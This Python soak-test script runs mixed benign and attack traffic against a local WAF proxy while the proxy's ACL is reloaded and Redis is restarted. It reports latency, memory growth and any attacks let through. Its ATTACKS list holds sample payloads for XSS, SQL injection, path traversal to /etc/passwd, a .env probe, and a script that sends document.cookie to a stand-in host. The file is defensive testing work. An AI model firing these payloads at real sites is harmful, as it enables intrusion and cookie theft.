"""Soak: mixed benign and attack traffic against a real ``wafproxy serve`` for ``--minutes``, while
the web ACL is reloaded (file rewritten + SIGHUP) every ``--reload-every`` seconds and the Redis
behind the rate-based rule is restarted twice (at 1/3 and 2/3 of the run).

    python load_tests/soak.py --minutes 30 --rate 400
    python load_tests/soak.py --minutes 1 --rate 40 --reload-every 15      # what CI runs

The ACL is the shipped default (managed groups, IP sets) plus a rate-based rule per forwarded
client address (through Redis) and a toggle rule that each reload adds or removes. Clients come
from 2048 addresses in X-Forwarded-For (the generator is a trusted proxy), attackers from another
2048 (the threat detector, on as by default, bans them). The upstream is a
tiny ASGI app. Reported: RSS of the proxy over time, p50/p99 latency and counts per minute,
failed benign requests (anything but 200), attacks let through; ``--json`` writes the summary.
Exit status 1 when a benign request failed or an attack was let through.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import random
import shutil
import signal
import sys
import tempfile
import time
from collections import defaultdict
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

import httpx

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))

from tests.support.redis import RedisServer  # noqa: E402
from tests.support.servers import free_port, uvicorn_in_thread, wafproxy_process  # noqa: E402
from tests.support.wait import until  # noqa: E402

BENIGN = [
    ("GET", "/", None),
    ("GET", "/products?id=42&sort=price", None),
    ("GET", "/static/app.js", None),
    ("POST", "/api/orders", {"item": "book", "qty": 2, "note": "gift wrap, please"}),
    ("GET", "/search?q=blue+shoes&page=2", None),
    ("GET", "/account/settings", None),
]
ATTACKS = [
    ("GET", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", None),
    ("GET", "/products?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", None),
    ("GET", "/download?file=..%2F..%2F..%2Fetc%2Fpasswd", None),
    ("POST", "/api/orders", {"item": "<script>document.location='http://x/'+document.cookie</script>"}),
    ("GET", "/.env", None),
]
ATTACK_SHARE = 0.2
RATE_LIMIT = 100_000  # per address per 5 minutes: the rule is exercised (Redis), never reached


@dataclass
class Minute:
    benign: list[float] = field(default_factory=list)  # latencies, seconds
    attack: list[float] = field(default_factory=list)
    failed_benign: int = 0
    attacks_passed: int = 0
    errors: dict[str, int] = field(default_factory=lambda: defaultdict(int))


@dataclass
class Summary:
    minutes: float
    rate: float
    sent: int
    failed_benign: int
    attacks_passed: int
    reloads: int
    redis_restarts: int
    rss_mb: list[tuple[float, float]]  # (seconds since start, RSS MB)
    per_minute: list[dict[str, Any]]
    rss_growth_pct: float | None  # from minute 5 (or the first sample) to the end


async def upstream_app(scope: dict[str, Any], receive: Any, send: Any) -> None:
    if scope["type"] != "http":
        return
    while (await receive()).get("more_body"):
        pass
    await send({"type": "http.response.start", "status": 200, "headers": [(b"content-type", b"text/plain")]})
    await send({"type": "http.response.body", "body": b"ok"})


def soak_acl(directory: Path, toggle: bool) -> Path:
    """The default ACL (+ its IP sets) with the rate rule, and the toggle rule when ``toggle``."""
    acl = json.loads((REPO / "rules" / "default-web-acl.json").read_text())
    vis = {"SampledRequestsEnabled": False, "CloudWatchMetricsEnabled": False, "MetricName": "soak"}
    acl["Rules"].append(
        {
            "Name": "SoakRate",
            "Priority": 900,
            "Action": {"Block": {}},
            "VisibilityConfig": vis,
            "Statement": {
                "RateBasedStatement": {
                    "Limit": RATE_LIMIT,
                    "AggregateKeyType": "FORWARDED_IP",
                    "ForwardedIPConfig": {"HeaderName": "X-Forwarded-For", "FallbackBehavior": "MATCH"},
                    "EvaluationWindowSec": 300,
                }
            },
        }
    )
    if toggle:
        acl["Rules"].append(
            {
                "Name": "SoakToggle",
                "Priority": 901,
                "Action": {"Block": {}},
                "VisibilityConfig": vis,
                "Statement": {
                    "ByteMatchStatement": {
                        "SearchString": "/soak-toggle",
                        "FieldToMatch": {"UriPath": {}},
                        "PositionalConstraint": "STARTS_WITH",
                        "TextTransformations": [{"Priority": 0, "Type": "NONE"}],
                    }
                },
            }
        )
    (directory / "ipsets").mkdir(parents=True, exist_ok=True)
    for path in (REPO / "rules" / "ipsets").glob("*.json"):
        shutil.copy(path, directory / "ipsets" / path.name)
    target = directory / "web-acl.json"
    tmp = directory / ".web-acl.json.tmp"
    tmp.write_text(json.dumps(acl))
    os.replace(tmp, target)  # the proxy never reads half a file
    return target


def rss_mb(pid: int) -> float:
    with open(f"/proc/{pid}/status") as fh:
        for line in fh:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


def percentile(values: list[float], q: float) -> float:
    if not values:
        return 0.0
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(q * len(ordered)))]


class Soak:
    def __init__(
        self,
        args: argparse.Namespace,
        data_url: str,
        admin_url: str,
        pid: int,
        acl_dir: Path,
        redis: RedisServer,
    ) -> None:
        self.args, self.data_url, self.admin_url, self.pid = args, data_url, admin_url, pid
        self.acl_dir, self.redis = acl_dir, redis
        self.minutes: dict[int, Minute] = defaultdict(Minute)
        self.rss: list[tuple[float, float]] = []
        self.reloads = 0
        self.redis_restarts = 0
        self.sent = 0
        self.rng = random.Random(args.seed)
        self.start = 0.0

    async def one(self, client: httpx.AsyncClient, attack: bool) -> None:
        method, path, body = self.rng.choice(ATTACKS if attack else BENIGN)
        # Attackers and benign clients are different addresses (10.8-15.x.x and 10.0-7.x.x): the
        # threat detector bans an address that keeps attacking, and a benign client must not be it.
        first = self.rng.randrange(8, 16) if attack else self.rng.randrange(8)
        xff = f"10.{first}.{self.rng.randrange(16)}.{self.rng.randrange(1, 17)}"
        bucket = self.minutes[int((time.monotonic() - self.start) // 60)]
        started = time.perf_counter()
        try:
            response = await client.request(
                method,
                self.data_url + path,
                json=body,
                headers={"X-Forwarded-For": xff, "User-Agent": "soak/1.0"},
            )
            status = response.status_code
        except httpx.HTTPError as exc:
            status = 0
            bucket.errors[type(exc).__name__] += 1
        elapsed = time.perf_counter() - started
        if attack:
            bucket.attack.append(elapsed)
            bucket.attacks_passed += status == 200
        else:
            bucket.benign.append(elapsed)
            if status != 200:
                bucket.failed_benign += 1
                bucket.errors[f"benign {status}"] += 1

    async def traffic(self, seconds: float) -> None:
        # Idle connections are dropped before the proxy's 5 s keep-alive timeout closes them: with
        # httpx's default expiry (also 5 s) a request sometimes went out on a connection the server
        # was closing (2 ReadErrors in the first 30-minute run), a client race, not a proxy failure.
        limits = httpx.Limits(max_connections=256, max_keepalive_connections=64, keepalive_expiry=2.0)
        async with httpx.AsyncClient(limits=limits, timeout=30) as client:
            tasks: set[asyncio.Task[None]] = set()
            interval = 1.0 / self.args.rate
            next_at = time.monotonic()
            while time.monotonic() - self.start < seconds:
                task = asyncio.create_task(self.one(client, self.rng.random() < ATTACK_SHARE))
                tasks.add(task)
                task.add_done_callback(tasks.discard)
                self.sent += 1
                next_at += interval  # open loop: the schedule does not wait for answers
                await asyncio.sleep(max(0.0, next_at - time.monotonic()))
            await asyncio.gather(*tasks)

    async def reloader(self, seconds: float) -> None:
        while True:
            await asyncio.sleep(self.args.reload_every)
            if time.monotonic() - self.start >= seconds - 1:
                return
            soak_acl(self.acl_dir, toggle=self.reloads % 2 == 0)
            os.kill(self.pid, signal.SIGHUP)
            self.reloads += 1

    async def redis_restarts_at(self, seconds: float) -> None:
        for share in (1 / 3, 2 / 3):
            await asyncio.sleep(max(0.0, self.start + seconds * share - time.monotonic()))
            self.redis.kill()
            await asyncio.sleep(self.args.redis_down)
            await asyncio.to_thread(self.redis.start)
            self.redis_restarts += 1

    async def sample_rss(self, seconds: float) -> None:
        while time.monotonic() - self.start < seconds:
            self.rss.append((round(time.monotonic() - self.start, 1), round(rss_mb(self.pid), 1)))
            await asyncio.sleep(self.args.rss_every)

    async def run(self) -> Summary:
        seconds = self.args.minutes * 60
        self.start = time.monotonic()
        await asyncio.gather(
            self.traffic(seconds),
            self.reloader(seconds),
            self.redis_restarts_at(seconds),
            self.sample_rss(seconds),
        )
        self.rss.append((round(time.monotonic() - self.start, 1), round(rss_mb(self.pid), 1)))
        return self.summary()

    def summary(self) -> Summary:
        rows = []
        for minute in sorted(self.minutes):
            m = self.minutes[minute]
            both = m.benign + m.attack
            rss = [r for t, r in self.rss if minute * 60 <= t < (minute + 1) * 60]
            rows.append(
                {
                    "minute": minute + 1,
                    "requests": len(both),
                    "p50_ms": round(percentile(both, 0.5) * 1000, 1),
                    "p99_ms": round(percentile(both, 0.99) * 1000, 1),
                    "failed_benign": m.failed_benign,
                    "attacks_passed": m.attacks_passed,
                    "rss_mb": max(rss) if rss else None,
                    "errors": dict(m.errors),
                }
            )
        after = [r for t, r in self.rss if t >= 300] or [r for _, r in self.rss]
        growth = (after[-1] - after[0]) / after[0] * 100 if len(after) > 1 and after[0] else None
        return Summary(
            self.args.minutes,
            self.args.rate,
            self.sent,
            sum(r["failed_benign"] for r in rows),
            sum(r["attacks_passed"] for r in rows),
            self.reloads,
            self.redis_restarts,
            self.rss,
            rows,
            None if growth is None else round(growth, 2),
        )


def reloads_counted(admin_url: str) -> float:
    text = httpx.get(admin_url + "/metrics").text
    return sum(
        float(line.rsplit(" ", 1)[1])
        for line in text.splitlines()
        if line.startswith("wafproxy_config_reloads_total") and 'result="success"' in line
    )


def soak(args: argparse.Namespace) -> Summary:
    workdir = Path(tempfile.mkdtemp(prefix="wafproxy-soak-"))
    redis = RedisServer(workdir)
    redis.start()
    try:
        acl = soak_acl(workdir / "acl", toggle=False)
        with uvicorn_in_thread(upstream_app) as upstream:
            port, admin = free_port(), free_port()
            cmd = (
                "serve",
                "--upstream",
                upstream.url,
                "--acl",
                str(acl),
                "--redis",
                redis.url,
                "--trusted-proxy",
                "127.0.0.1/32",
                "--listen",
                f"127.0.0.1:{port}",
                "--admin-listen",
                f"127.0.0.1:{admin}",
                "--log-level",
                "warning",
            )
            with wafproxy_process(*cmd, wait_ports=(port, admin)) as proc:
                data_url, admin_url = f"http://127.0.0.1:{port}", f"http://127.0.0.1:{admin}"
                until(lambda: httpx.get(admin_url + "/readyz").status_code == 200, what="proxy ready")
                runner = Soak(args, data_url, admin_url, proc.pid, workdir / "acl", redis)
                summary = asyncio.run(runner.run())
                # every SIGHUP was applied (compiled and swapped), none failed
                # Each reload compiles the ACL (databases a reload has not seen yet build first): on a
                # machine that is busy they may finish well after the last SIGHUP.
                until(lambda: reloads_counted(admin_url) >= summary.reloads, timeout=300,
                      what="all reloads applied")
                assert proc.poll() is None, "the proxy exited during the soak"
                return summary
    finally:
        redis.kill()
        shutil.rmtree(workdir, ignore_errors=True)


def print_report(summary: Summary) -> None:
    print(
        f"soak: {summary.minutes} min at {summary.rate} req/s, {summary.sent} requests, "
        f"{summary.reloads} ACL reloads, {summary.redis_restarts} Redis restarts"
    )
    print(
        f"{'min':>4}{'requests':>10}{'p50 ms':>9}{'p99 ms':>9}{'failed':>8}{'att.ok':>8}{'RSS MB':>9}  errors"
    )
    for row in summary.per_minute:
        print(
            f"{row['minute']:>4}{row['requests']:>10}{row['p50_ms']:>9}{row['p99_ms']:>9}"
            f"{row['failed_benign']:>8}{row['attacks_passed']:>8}{row['rss_mb'] or 0:>9}"
            f"  {row['errors'] or ''}"
        )
    print(
        f"failed benign: {summary.failed_benign}; attacks let through: {summary.attacks_passed}; "
        f"RSS growth (minute 5 on, or whole run): {summary.rss_growth_pct}%"
    )


def parse_args(argv: list[str] | None = None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--minutes", type=float, default=30.0)
    parser.add_argument("--rate", type=float, default=200.0, help="requests per second (open loop)")
    parser.add_argument("--reload-every", type=float, default=60.0, help="seconds between ACL reloads")
    parser.add_argument("--redis-down", type=float, default=2.0, help="seconds Redis stays down per restart")
    parser.add_argument("--rss-every", type=float, default=5.0)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--json", type=Path, help="also write the summary here")
    return parser.parse_args(argv)


def main() -> int:
    args = parse_args()
    summary = soak(args)
    print_report(summary)
    if args.json:
        args.json.write_text(json.dumps(asdict(summary), indent=1))
    return 1 if summary.failed_benign or summary.attacks_passed else 0


if __name__ == "__main__":
    with contextlib.suppress(KeyboardInterrupt):
        sys.exit(main())
